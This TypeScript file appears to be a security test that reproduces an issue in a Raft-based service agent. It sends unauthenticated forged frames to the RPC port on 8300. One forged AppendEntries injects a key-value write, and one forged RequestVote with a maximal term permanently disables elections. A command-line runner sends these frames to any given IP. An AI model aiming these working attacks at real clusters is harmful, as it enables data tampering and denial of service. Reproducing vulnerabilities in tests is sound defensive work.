/**
 * What a stranger on the network can send to a server's RPC port (8300) with no key and no
 * certificate (issue 14): one frame in the wire layout of net/transport/frame.ts, written with plain
 * msgpackr so the same code attacks the pre-session agent too (`npx tsx net/test/attacks.ts …`).
 *
 *  - `forgedAppend`: an AppendEntries claiming a leader at term + 1 that appends a KV set after the
 *    server's last entry and commits it: on a plain port, the key appears.
 *  - `forgedVote`: a RequestVote with a huge term: before the wire checks, persisted, and the node can
 *    never elect again (term + 1 is not a safe integer).
 */
import * as net from 'node:net';
import { Packr } from 'msgpackr';

const packr = new Packr({ useRecords: false, moreTypes: true });

export function frame(from: string, body: unknown): Buffer {
  const payload = Buffer.from(packr.pack([from, body]));
  const head = Buffer.alloc(5);
  head.writeUInt32BE(payload.length + 1, 0);
  head.writeUInt8(1, 4);
  return Buffer.concat([head, payload]);
}

/** Writes frames on one plain TCP connection; resolves when the peer closed it or after `waitMs`. */
export function sendPlain(
  host: string,
  port: number,
  frames: readonly Buffer[],
  waitMs = 300,
): Promise<'closed' | 'open'> {
  return new Promise((resolve) => {
    const s = net.connect({ host, port }, () => {
      for (const f of frames) s.write(f);
    });
    const timer = setTimeout(() => (s.destroy(), resolve('open')), waitMs);
    s.on('close', () => (clearTimeout(timer), resolve('closed')));
    s.on('error', () => undefined);
  });
}

/** Appends for prevIndex in [appliedIndex, appliedIndex + 3] (the server's last entry is one of them). */
export function forgedAppends(claimedFrom: string, term: number, appliedIndex: number, key: string, value: string) {
  return forgedAppendEnvelopes(term, appliedIndex, key, value).map((envelope) => frame(claimedFrom, envelope));
}

/** The envelopes of `forgedAppends` (`{ m: 'raft', p: append }`), for a sender that frames them itself. */
export function forgedAppendEnvelopes(term: number, appliedIndex: number, key: string, value: string): unknown[] {
  const out: unknown[] = [];
  for (let prevIndex = appliedIndex; prevIndex <= appliedIndex + 3; prevIndex++) {
    const entry = {
      term: term + 1,
      index: prevIndex + 1,
      type: 'command',
      command: { type: 'kvSet', entry: { key, value: new Uint8Array(Buffer.from(value)) } },
    };
    const append = {
      type: 'append',
      term: term + 1,
      prevIndex,
      prevTerm: term,
      entries: [entry],
      commit: prevIndex + 1,
      readSeq: 0,
    };
    out.push({ m: 'raft', p: append });
  }
  return out;
}

export function forgedVote(claimedFrom: string, term: number): Buffer {
  const vote = { type: 'vote', term, lastIndex: term, lastTerm: term, preVote: false, transfer: true };
  return frame(claimedFrom, { m: 'raft', p: vote });
}

/** Reads term and applied index from /v1/agent/self. */
export async function raftStats(httpAddr: string): Promise<{ term: number; applied: number }> {
  const self = (await (await fetch(`http://${httpAddr}/v1/agent/self`)).json()) as {
    Stats: { raft: { term: string; applied_index: string } };
  };
  return { term: Number(self.Stats.raft.term), applied: Number(self.Stats.raft.applied_index) };
}

// `npx tsx net/test/attacks.ts append|vote IP` against a -dev agent on IP (HTTP 8500, RPC 8300).
if (process.argv[1]?.endsWith('attacks.ts')) {
  const [what, ip] = process.argv.slice(2);
  const stats = await raftStats(`${ip}:8500`);
  const frames =
    what === 'vote'
      ? [forgedVote('127.0.0.66:8301', 2 ** 53 - 1)]
      : forgedAppends('127.0.0.66:8301', stats.term, stats.applied, 'forged', 'by-a-stranger');
  process.stdout.write(`before: term ${stats.term}, applied ${stats.applied}; sending ${frames.length} frame(s)\n`);
  process.stdout.write(`connection: ${await sendPlain(ip!, 8300, frames, 500)}\n`);
}
